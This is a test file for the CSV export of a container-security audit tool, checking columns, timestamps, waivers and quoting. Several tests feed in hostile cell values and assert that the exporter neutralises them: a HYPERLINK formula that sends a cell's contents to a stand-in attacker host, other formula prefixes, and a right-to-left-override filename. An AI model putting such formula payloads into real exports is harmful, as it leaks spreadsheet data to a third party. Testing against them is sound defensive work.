import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { auditContainer } from "@/lib/audit/audit";
import { CHECKS } from "@/lib/audit/checks";
import { caseSnapshot, fixtureSnapshot } from "@/lib/audit/fixtures/load";
import { CHECK_IDS, PROBE_IDS } from "@/lib/audit/types";
import {
  CSV_HEADER,
  FINDINGS_HEADER,
  findingsCsv,
  fleetCsv,
  neutraliseFormula,
  type ReportRow,
  reportCsv,
  spreadsheetTime,
} from "./csv";

const CONTEXT = { engine: "local" };
const CHECK_TITLE_CAP_DROP = CHECKS["cap-drop-all"].title;

const row = (name: string, overrides: Partial<ReportRow> = {}): ReportRow => ({
  ...auditContainer(fixtureSnapshot(name)),
  verification: null,
  ...overrides,
});

describe("CSV_HEADER", () => {
  it("starts with the identity columns, then every check id in order, then the verify and probe columns", () => {
    expect(CSV_HEADER).toEqual([
      "container_id",
      "name",
      "image",
      "score",
      "grade",
      "state",
      "compose_project",
      "compose_service",
      "engine",
      "failing_checks",
      ...CHECK_IDS,
      "verify_verdict",
      "verify_checked_at",
      "probe_root-write",
      "probe_mount-table",
      "probe_process-identity",
      "probe_tmpfs-exec",
      "probe_ro-mount-write",
      "engine_read",
      "engine_unanswered_since",
      "audit_read_at",
    ]);
    expect(PROBE_IDS).toHaveLength(5);
  });
});

describe("neutraliseFormula", () => {
  it.each([
    [
      '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")',
      `'=HYPERLINK("http://attacker.invalid/?x="&A1,"click")`,
    ],
    ["+SUM(1,2)", "'+SUM(1,2)"],
    ["-2+3", "'-2+3"],
    ["@evil", "'@evil"],
    ["\t=1+1", "'\t=1+1"],
    ["\r\n=1+1", "'\r\n=1+1"],
    ["plain", "plain"],
    ["a=b", "a=b"],
    ["", ""],
  ])("%j → %j", (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });
});

describe("fleetCsv", () => {
  it("leaves an unreadable row's score, grade and checks empty and says why; a stale one keeps its grade", () => {
    const since = "2026-01-01T00:00:00.000Z";
    const csv = fleetCsv(
      [
        { ...row("hardened"), score: null, grade: null, checks: [], read: { status: "unreadable", since } },
        { ...row("hardened"), read: { status: "stale", since, readAt: "2025-12-31T23:00:00.000Z" } },
        row("hardened"),
      ],
      CONTEXT,
    );
    const [, unreadable, stale, current] = parse(csv, { columns: false }) as string[][];
    const at = (r: string[] | undefined, column: string) => r?.[CSV_HEADER.indexOf(column)];
    expect([at(unreadable, "score"), at(unreadable, "grade"), at(unreadable, "read-only-rootfs")]).toEqual([
      "",
      "",
      "",
    ]);
    expect([at(unreadable, "engine_read"), at(unreadable, "engine_unanswered_since")]).toEqual([
      "unreadable",
      "2026-01-01 00:00:00",
    ]);
    expect([at(stale, "grade"), at(stale, "engine_read"), at(stale, "audit_read_at")]).toEqual([
      "A",
      "stale",
      "2025-12-31 23:00:00",
    ]);
    expect([at(current, "engine_read"), at(current, "engine_unanswered_since")]).toEqual(["current", ""]);
  });

  it("writes CRLF lines, no BOM, and one row per container", () => {
    const csv = fleetCsv([row("hardened"), row("writable-default")], CONTEXT);
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    expect(
      csv.startsWith(
        "container_id,name,image,score,grade,state,compose_project,compose_service,engine,failing_checks,read-only-rootfs,",
      ),
    ).toBe(true);
    const lines = csv.split("\r\n");
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe("");
    expect(csv.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
  });

  it("holds each check's status and the verify verdict", () => {
    const verification = {
      verdict: "enforced" as const,
      detail: "x",
      checkedAt: "2026-11-30T00:00:00.000Z",
      probes: [
        {
          id: "root-write" as const,
          status: "pass" as const,
          evidence: "touch: /etc/test-file: Read-only file system",
        },
        { id: "mount-table" as const, status: "pass" as const, evidence: "/ is mounted ro (overlay)" },
        { id: "process-identity" as const, status: "pass" as const, evidence: "uid 1000 gid 1000" },
        { id: "tmpfs-exec" as const, status: "pass" as const, evidence: "/tmp: refused" },
        { id: "ro-mount-write" as const, status: "fail" as const, evidence: "write succeeded on /config" },
      ],
    };
    const [header, hardened] = parse(fleetCsv([row("hardened", { verification })], CONTEXT), {
      relax_column_count: false,
    }) as string[][];
    const record = Object.fromEntries((header ?? []).map((h, i) => [h, hardened?.[i]]));
    expect(record).toMatchObject({
      name: "roaudit-capture-hardened",
      image: "roaudit-fixture:busybox",
      score: "100",
      grade: "A",
      "read-only-rootfs": "pass",
      "tmpfs-size": "pass",
      "pids-limit": "pass",
      verify_verdict: "enforced",
      verify_checked_at: "2026-11-30 00:00:00",
      state: "running",
      engine: CONTEXT.engine,
      failing_checks: "",
      "probe_root-write": "pass",
      "probe_mount-table": "pass",
      "probe_process-identity": "pass",
      "probe_tmpfs-exec": "pass",
      "probe_ro-mount-write": "fail",
    });
    expect(record.container_id).toMatch(/^[0-9a-f]{64}$/);
  });

  it("writes waived in a waived check's column, and no waiver reason anywhere", () => {
    const csv = fleetCsv([row("waivers-compose")], CONTEXT);
    const [header = [], record = []] = parse(csv) as string[][];
    const cells = Object.fromEntries(header.map((h, i) => [h, record[i]]));
    expect(cells).toMatchObject({
      "non-root-user": "waived",
      "read-only-rootfs": "waived",
      "cap-drop-all": "fail",
      score: "66",
      failing_checks: expect.stringContaining("cap-drop-all"),
    });
    expect(cells.failing_checks?.split(" ")).not.toContain("non-root-user");
    expect(csv).not.toContain("HYPERLINK");
    expect(csv).not.toContain("onerror");
  });

  it("leaves verify columns empty until verified, and writes na", () => {
    const [header, r] = parse(fleetCsv([row("writable-default")], CONTEXT)) as string[][];
    const record = Object.fromEntries((header ?? []).map((h, i) => [h, r?.[i]]));
    expect(record).toMatchObject({
      "tmpfs-noexec": "na",
      verify_verdict: "",
      verify_checked_at: "",
      "probe_root-write": "",
      "probe_ro-mount-write": "",
    });
  });

  it("quotes and neutralises hostile text so it round-trips as text (case csv-export-injection-and-quoting)", () => {
    const base = auditContainer(caseSnapshot("csv-export-injection-and-quoting", "case-csv-inject"));
    const hostile = [
      '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")',
      'line1\nline2, with "quotes", and commas',
      "\t=1+1",
      "v\r\n=1+1",
      "Zürich — 東京 🚀 \u202egpj.exe",
    ];
    const rows = hostile.map((name) => ({ ...base, name, image: name, verification: null }));
    const csv = fleetCsv(rows, CONTEXT);
    const parsed = parse(csv) as string[][];
    expect(parsed).toHaveLength(1 + hostile.length);
    for (const [i, name] of hostile.entries()) {
      const expected = /^[=+\-@\t\r\n]/.test(name) ? `'${name}` : name;
      expect(parsed[i + 1]?.[1]).toBe(expected);
      expect(parsed[i + 1]?.[2]).toBe(expected);
      expect(parsed[i + 1]).toHaveLength(CSV_HEADER.length);
    }
  });
});

describe("spreadsheetTime", () => {
  it("writes UTC YYYY-MM-DD HH:MM:SS, empty for missing or unreadable times", () => {
    expect(spreadsheetTime("2026-11-30T23:59:59.987Z")).toBe("2026-11-30 23:59:59");
    expect(spreadsheetTime("2026-12-01T01:00:00+02:00")).toBe("2026-11-30 23:00:00");
    expect(spreadsheetTime(undefined)).toBe("");
    expect(spreadsheetTime("yesterday")).toBe("");
  });
});

describe("findingsCsv", () => {
  const records = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

  it("has one row per failing or waived check, none for a container that passes everything", () => {
    const waivers = row("waivers-compose");
    const csv = findingsCsv([row("hardened"), waivers], CONTEXT);
    expect(csv.split("\r\n")[0]).toBe(FINDINGS_HEADER.join(","));
    const found = records(csv);
    const expected = waivers.checks.filter((c) => c.status === "fail" || c.status === "waived");
    expect(found.map((r) => r.check_id)).toEqual(expected.map((c) => c.id));
    expect(found.every((r) => r.container === waivers.name && r.engine === CONTEXT.engine)).toBe(true);
  });

  it("names the check, its severity, CIS id, fix flags and compose keys, and a waiver's reason", () => {
    const found = records(findingsCsv([row("waivers-compose")], CONTEXT));
    expect(found.find((r) => r.check_id === "cap-drop-all")).toMatchObject({
      check_title: CHECK_TITLE_CAP_DROP,
      status: "fail",
      severity: "high",
      cis: "5.4",
      // A leading "-" would be read as a formula: neutralised like any other cell.
      fix_flags: "'--cap-drop --cap-add",
      compose_keys: "cap_drop cap_add",
      waiver_source: "",
      waiver_reason: "",
    });
    const waived = found.find((r) => r.check_id === "non-root-user");
    expect(waived?.status).toBe("waived");
    expect(waived?.waiver_source).toMatch(/^(label|policy)$/);
    expect(waived?.waiver_reason).not.toBe("");
  });

  it("neutralises formulas in hostile messages and waiver reasons", () => {
    const base = row("waivers-compose");
    const hostile = {
      ...base,
      checks: base.checks.map((c) =>
        c.status === "waived"
          ? { ...c, message: "=1+1", waiver: { source: "label" as const, reason: "@SUM(A1)" } }
          : c,
      ),
    };
    for (const r of records(findingsCsv([hostile], CONTEXT)).filter((r) => r.status === "waived")) {
      expect(r.message).toBe("'=1+1");
      expect(r.waiver_reason).toBe("'@SUM(A1)");
    }
  });
});

describe("reportCsv", () => {
  it("writes the shape asked for", () => {
    expect(reportCsv("summary", [], CONTEXT)).toBe(`${CSV_HEADER.join(",")}\r\n`);
    expect(reportCsv("findings", [], CONTEXT)).toBe(`${FINDINGS_HEADER.join(",")}\r\n`);
  });
});

describe("the engine column", () => {
  const records = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

  it("holds each row's engine name, the context's for a row without one", () => {
    const rows = [row("hardened", { engine: "prod-1" }), row("hardened")];
    expect(records(fleetCsv(rows, CONTEXT)).map((r) => r.engine)).toEqual(["prod-1", "local"]);
  });
});
